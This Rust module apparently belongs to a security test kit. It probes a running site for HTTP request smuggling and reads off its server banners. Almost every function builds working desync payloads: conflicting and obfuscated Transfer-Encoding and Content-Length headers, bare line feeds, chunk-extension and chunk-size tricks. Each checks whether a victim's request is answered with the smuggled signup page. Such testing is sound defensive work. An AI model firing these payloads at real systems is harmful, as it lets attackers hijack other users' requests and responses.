//! `outdated-software`: published holes of servers and parsers, tried on the running one.
//!
//! Request smuggling needs two who read differently. The one in front is played here: it is known what it would have sent on, and in
//! how many requests. What the site makes of it shows in who is answered what.

use anyhow::{Result, ensure};
use testkit::raw::exchange;

use super::Outcome;
use crate::Target;

/// What nobody asked for whose request the one in front has seen, and how its page is known.
const SMUGGLED: &str = "GET /signup/ HTTP/1.1\r\nX: ";
const ITS_PAGE: &str = "password2";

/// Sends a length and chunks: who stands in front goes by the one, the site by the other.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn length_and_chunks(target: &Target) -> Result<Outcome> {
    let body = format!("0\r\n\r\n{SMUGGLED}");
    let orders = [
        format!("Content-Length: {}\r\nTransfer-Encoding: chunked\r\n", body.len()),
        format!("Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", body.len()),
    ];
    smuggled(target, &orders, &body).await
}

/// Hides from whoever stands in front that there are chunks: misspelt, folded, twice, behind a space.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn hidden_chunks(target: &Target) -> Result<Outcome> {
    let body = format!("0\r\n\r\n{SMUGGLED}");
    let hidden: Vec<String> = [
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding:\tchunked",
        "X: y\r\n Transfer-Encoding: chunked",
        "Transfer-Encoding: \"chunked\"",
    ]
    .iter()
    .map(|line| format!("Content-Length: {}\r\n{line}\r\n", body.len()))
    .collect();
    smuggled(target, &hidden, &body).await
}

/// Sends two lengths, or one that is written in two ways: who stands in front goes by the first.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn two_lengths(target: &Target) -> Result<Outcome> {
    let length = SMUGGLED.len();
    let lengths = [
        format!("Content-Length: {length}\r\nContent-Length: 0\r\n"),
        format!("Content-Length: 0\r\nContent-Length: {length}\r\nContent-Length: 0\r\n"),
        format!("Content-Length: {length}, 0\r\n"),
        format!("Content-Length: +{length}\r\n"),
        format!("Content-Length: {length}\r\n Content-Length: 0\r\n"),
        format!("Content-Length : {length}\r\n"),
    ];
    smuggled(target, &lengths, SMUGGLED).await
}

/// Ends a line, and a head, with a line feed alone, which is a letter of the value to who stands in front.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn bare_line_feed(target: &Target) -> Result<Outcome> {
    let line = "X: y\n\nGET /signup/ HTTP/1.1\r\n".to_owned();
    smuggled(target, &[line], "").await
}

/// Ends the line of a chunk's size with a line feed within its extension.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn chunk_extension(target: &Target) -> Result<Outcome> {
    // To who stands in front: a chunk `00`, a long chunk, the end. To who ends a line with a line feed: a chunk `xx`, the end, and more.
    let long = format!("\r\n{SMUGGLED}");
    let body = format!("2;\nxx\r\n00\r\n{:x}\r\n{long}\r\n0\r\n\r\n", long.len());
    smuggled(target, &["Transfer-Encoding: chunked\r\n".to_owned()], &body).await
}

/// Sends a size of a chunk that is a number to some and none to others: too long, with a sign, with `0x`.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn size_of_a_chunk(target: &Target) -> Result<Outcome> {
    let mut found = Vec::new();
    for size in ["0x0", "-0", "+0", "0 0", "g", "10000000000000000", "0_0", ""] {
        let body = format!("{size}\r\n\r\n{SMUGGLED}");
        let outcome = smuggled(target, &["Transfer-Encoding: chunked\r\n".to_owned()], &body).await?;
        if outcome.succeeded {
            found.push(size);
        }
    }
    Ok(Outcome::new(
        !found.is_empty(),
        format!("taken for the end: {found:?}"),
    ))
}

/// Reads off pages, errors and nonsense which software answers, and which version of it.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn banner(target: &Target) -> Result<Outcome> {
    let host = target.host();
    let mut told = Vec::new();
    for request in [
        format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
        format!("GET /missing/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
        format!("OPTIONS / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
        format!("POST /login/ HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
        "GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n".to_owned(),
    ] {
        let said = exchange(target.wire().await?, request).await?;
        ensure!(said.starts_with("HTTP/1.1 "), "no answer but {said:?}");
        let head = said.split("\r\n\r\n").next().unwrap_or_default().to_lowercase();
        for line in head.lines() {
            let names = [
                "server:",
                "x-powered-by:",
                "via:",
                "x-runtime:",
                "x-version:",
                "x-generator:",
            ];
            if names.iter().any(|name| line.starts_with(name)) {
                told.push(line.to_owned());
            }
        }
        let page = said.to_lowercase();
        for name in ["palisade/", "hyper/", "axum/", "rustls/", "vault 0.", "rust 1."] {
            if page.contains(name) {
                told.push(name.to_owned());
            }
        }
    }
    told.dedup();
    Ok(Outcome::new(!told.is_empty(), format!("{told:?}")))
}

/// Sends each head with this body, and behind it, on the same connection, what somebody else has asked for.
async fn smuggled(target: &Target, heads: &[String], body: &str) -> Result<Outcome> {
    let host = target.host();
    let mut found = Vec::new();
    let mut answers = Vec::new();
    for lines in heads {
        let attack = format!("POST /login/ HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n{body}");
        let victims = format!("GET /login/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let said = exchange(target.wire().await?, format!("{attack}{victims}")).await?;
        // Nobody whose request the one in front has seen asked for this page.
        if said.contains(ITS_PAGE) {
            found.push(lines.trim_end());
        }
        answers.push(said.lines().next().unwrap_or("closed").to_owned());
    }
    Ok(Outcome::new(
        !found.is_empty(),
        format!("smuggled by {found:?}; answered {answers:?}"),
    ))
}
